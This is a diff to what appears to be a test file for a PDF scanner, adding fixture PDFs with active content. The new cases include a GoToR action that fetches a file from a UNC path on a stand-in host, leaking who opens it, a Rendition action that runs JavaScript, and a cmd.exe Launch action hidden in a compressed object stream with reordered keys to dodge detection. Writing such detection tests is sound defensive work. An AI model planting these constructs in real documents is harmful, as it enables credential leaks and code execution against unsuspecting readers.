@@ -116,6 +116,23 @@ describe('T-D2: a PDF that does more than show its pages', () => {
       'sends what is filled in',
       makePdf('x', '/AA << /WC << /S /SubmitForm /F (https://x.example) >> >>'),
     ],
+    [
+      'asks another machine for a file, which is told who opens it',
+      makePdf('x', '/OpenAction << /S /GoToR /F (\\\\x.example\\a.pdf) /D [0 /Fit] >>'),
+    ],
+    [
+      'runs a program when it plays',
+      makePdf('x', '/OpenAction << /S /Rendition /OP 0 /JS (app.alert(1)) >>'),
+    ],
+    [
+      'packs it away and says so elsewhere',
+      makePdf('x', '', [
+        packed('<< /S /Launch /F (cmd.exe) >>').replace(
+          '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
+          '<< /Filter /FlateDecode /Said (obj) /Type /ObjStm /N 1 /First 4',
+        ),
+      ]),
+    ],
     ['packs it away', makePdf('x', '', [packed('<< /S /Launch /F (cmd.exe) >>')])],
     [
       'packs it away so that nobody can look',
